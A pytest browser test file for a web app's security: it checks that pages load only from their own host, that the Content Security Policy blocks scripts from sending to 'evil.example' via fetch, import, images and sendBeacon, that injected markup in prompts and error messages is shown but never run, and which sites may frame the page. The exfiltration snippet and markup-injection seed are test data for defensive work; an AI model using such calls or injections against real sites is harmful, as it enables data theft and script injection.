"""What the page requests in a real browser, and what it does with markup in prompts."""

from urllib.parse import urlsplit

import pytest

from tests.support.hostile_requests import MARKUP, NASTY, SCRIPT

pytestmark = pytest.mark.browser

SEED_OF_MARKUP = """(markup) => {
  const real = window.fetch;
  window.fetch = (url, options, ...more) => {
    if (!String(url).includes('queue/join')) return real(url, options, ...more);
    const body = JSON.parse(options.body);
    body.data[1] = markup;
    return real(url, { ...options, body: JSON.stringify(body) }, ...more);
  };
}"""
MEADOW = "a red ball stands on a green meadow"
TYPED = [text for text in NASTY if ("<" in text or "hacked" in text or "{{" in text) and len(text) < 200]


@pytest.mark.parametrize("query", ["", "?player=hls", "?view=api", "?view=settings"])
@pytest.mark.slow
def test_nothing_is_requested_from_other_hosts_and_nothing_needed_is_blocked(visit, query) -> None:
    viewer = visit(query)
    if "view" not in query:
        viewer.start(MEADOW)
        viewer.wait("data.state === 'playing' && data.frame > 30")
        viewer.page.click("#stop")
        viewer.wait("data.state === 'ended'")
        viewer.page.wait_for_selector("#take video")
    viewer.page.wait_for_timeout(500)
    mine = urlsplit(viewer.page.url).netloc
    assert {urlsplit(url).netloc for url in viewer.asked if not url.startswith(("blob:", "data:"))} == {mine}
    assert [line for line in viewer.lines if "Content Security" in line] == viewer.errors == []
    assert [one for one in viewer.broken if one[0] >= 400] == []


def test_scripts_in_the_page_cannot_send_to_other_hosts(visit) -> None:
    viewer = visit()
    sent = """async () => {
      const tries = [fetch('https://evil.example/'), import('https://evil.example/a.js')];
      const image = new Image();
      tries.push(new Promise((done, fail) => { image.onload = done; image.onerror = fail; }));
      image.src = 'https://evil.example/a.png';
      navigator.sendBeacon('https://evil.example/', 'a');
      return (await Promise.allSettled(tries)).map((one) => one.status);
    }"""
    assert viewer.page.evaluate(sent) == ["rejected"] * 3
    assert sum("Content Security Policy" in line for line in viewer.lines) >= 4


@pytest.mark.slow
def test_markup_is_shown_and_never_run(visit) -> None:
    viewer = visit()
    viewer.start("a dragon")
    for number, text in enumerate(TYPED, 1):
        viewer.write(f"zyxomat {text}")
        viewer.page.press("#prompt textarea", "Enter")
        viewer.wait(f"data.prompt === '{number}'")
        for part in ("#player .caption", "#timeline", "#status"):
            foreign = f"{part} :is(img:not([src^='data:image/webp;base64,']), script, a)"
            assert viewer.page.locator(foreign).count() == 0
        assert "does not know" in viewer.text("#status")
    assert viewer.text("#player .caption").startswith("zyxomat")
    assert viewer.page.evaluate("window.hacked") is None and viewer.errors == []


def test_markup_in_a_refusal_is_not_run(visit) -> None:
    """A seed of markup comes back in the error message."""
    viewer = visit()
    viewer.page.evaluate(SEED_OF_MARKUP, MARKUP + SCRIPT)
    viewer.write(MEADOW)
    viewer.page.click("#start")
    viewer.page.wait_for_selector("text=it must be a whole number")
    assert viewer.page.evaluate("window.hacked") is None


def test_only_the_hub_may_embed_the_page_in_a_frame(visit, served) -> None:
    viewer = visit()
    policy = viewer.page.request.get(served.url).headers["content-security-policy"]
    frames = next(part for part in policy.split("; ") if part.startswith("frame-ancestors")).split()[1:]
    assert frames == ["'self'", "https://huggingface.co", "https://*.huggingface.co", "https://*.hf.space"]
